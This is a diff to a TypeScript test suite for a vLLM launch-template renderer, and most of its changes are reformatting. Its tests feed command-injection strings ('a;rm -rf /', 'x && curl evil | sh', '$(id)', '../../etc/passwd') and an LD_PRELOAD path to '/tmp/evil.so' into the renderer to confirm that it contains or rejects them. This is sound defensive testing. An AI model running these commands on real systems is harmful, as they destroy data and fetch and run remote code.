@@ -9,7 +9,21 @@ const template = (over: Record<string, unknown> = {}) =>
   RuntimeTemplateSpec.parse({
     executable: '/opt/vllm/bin/vllm',
     executableSha256: SHA,
-    args: ['serve', '{model_path}', '--served-model-name', '{served_name}', '--port', '{port}', '--dtype', '{dtype}', '--max-model-len={max_model_len}', '--gpu-memory-utilization', '{gpu_util}', '{enforce_eager}', '--trust={trust}'],
+    args: [
+      'serve',
+      '{model_path}',
+      '--served-model-name',
+      '{served_name}',
+      '--port',
+      '{port}',
+      '--dtype',
+      '{dtype}',
+      '--max-model-len={max_model_len}',
+      '--gpu-memory-utilization',
+      '{gpu_util}',
+      '{enforce_eager}',
+      '--trust={trust}',
+    ],
     params: {
       dtype: { type: 'string', pattern: '^(auto|half|bfloat16)$', default: 'auto' },
       max_model_len: { type: 'integer', min: 256, max: 131072 },
@@ -47,8 +61,18 @@ describe('tokenizing an argument', () => {
 describe('rendering a template', () => {
   it('fills params, applies defaults, and leaves agent placeholders for the agent', () => {
     expect(argsOf({ max_model_len: 8192 })).toEqual([
-      'serve', '{model_path}', '--served-model-name', '{served_name}', '--port', '{port}', '--dtype', 'auto',
-      '--max-model-len=8192', '--gpu-memory-utilization', '0.9', '--trust=false',
+      'serve',
+      '{model_path}',
+      '--served-model-name',
+      '{served_name}',
+      '--port',
+      '{port}',
+      '--dtype',
+      'auto',
+      '--max-model-len=8192',
+      '--gpu-memory-utilization',
+      '0.9',
+      '--trust=false',
     ]);
   });
 
@@ -60,8 +84,11 @@ describe('rendering a template', () => {
   });
 
   it('every value stays inside its own argv element', () => {
-    const permissive = { params: { dtype: { type: 'string', pattern: '^[^\\n]*$' }, max_model_len: { type: 'integer' } }, args: ['--dtype', '{dtype}', '--len={max_model_len}'] };
-    for (const value of ['a --trust-remote-code', '$(id)', '`id`', 'a;rm -rf /', 'x && curl evil | sh', "'\"", 'a b c', '../../etc/passwd']) {
+    const permissive = {
+      params: { dtype: { type: 'string', pattern: '^[^\\n]*$' }, max_model_len: { type: 'integer' } },
+      args: ['--dtype', '{dtype}', '--len={max_model_len}'],
+    };
+    for (const value of ['a --trust-remote-code', '$(id)', '`id`', 'a;rm -rf /', 'x && curl evil | sh', '\'"', 'a b c', '../../etc/passwd']) {
       const args = argsOf({ dtype: value, max_model_len: 1 }, permissive);
       expect(args).toEqual(['--dtype', value, '--len=1']);
     }
@@ -78,7 +105,9 @@ describe('rendering a template', () => {
   it('refuses control characters whatever the pattern allows: NUL, newline, carriage return, tab, escape', () => {
     const anything = { params: { v: { type: 'string', pattern: '^[\\s\\S]*$' } }, args: ['{v}'] };
     for (const value of ['a\0b', 'a\nb', 'a\r\nb', 'a\tb', '\u001b[31m', 'a\u007f']) {
-      expect(issues({ v: value }, anything)).toEqual([{ path: 'runtime.params.v', message: 'param "v" must not contain control characters (NUL, newline, tab...)' }]);
+      expect(issues({ v: value }, anything)).toEqual([
+        { path: 'runtime.params.v', message: 'param "v" must not contain control characters (NUL, newline, tab...)' },
+      ]);
     }
   });
 
@@ -96,7 +125,7 @@ describe('rendering a template', () => {
     }
   });
 
-  it('refuses a value that spells a placeholder with the template\'s own braces', () => {
+  it("refuses a value that spells a placeholder with the template's own braces", () => {
     const braces = { params: { v: { type: 'string', pattern: '^[a-z0-9{}]*$' } }, args: ['{{v}}'] };
     expect(issues({ v: 'port' }, braces)).toEqual([{ path: 'args.0', message: 'argument 0 would hold a placeholder no template wrote: {port}' }]);
     const half = { params: { v: { type: 'string', pattern: '^[a-z{}]*$' } }, args: ['{v}rt}'] };
@@ -205,9 +234,14 @@ describe('rendering the environment', () => {
   it('refuses a name the template does not allow, naming what it allows', () => {
     expect(renderEnv(template(), { LD_PRELOAD: { value: '/tmp/evil.so' } })).toEqual({
       ok: false,
-      issues: [{ path: 'runtime.env.LD_PRELOAD', message: 'environment variable LD_PRELOAD is not one the template allows (it allows HF_TOKEN, VLLM_LOGGING_LEVEL)' }],
+      issues: [
+        { path: 'runtime.env.LD_PRELOAD', message: 'environment variable LD_PRELOAD is not one the template allows (it allows HF_TOKEN, VLLM_LOGGING_LEVEL)' },
+      ],
     });
-    expect(renderEnv(template({ env: [] }), { HF_TOKEN: { value: 'x' } })).toMatchObject({ ok: false, issues: [{ message: expect.stringContaining('(it allows none)') }] });
+    expect(renderEnv(template({ env: [] }), { HF_TOKEN: { value: 'x' } })).toMatchObject({
+      ok: false,
+      issues: [{ message: expect.stringContaining('(it allows none)') }],
+    });
   });
 
   it('refuses NUL in a value', () => {
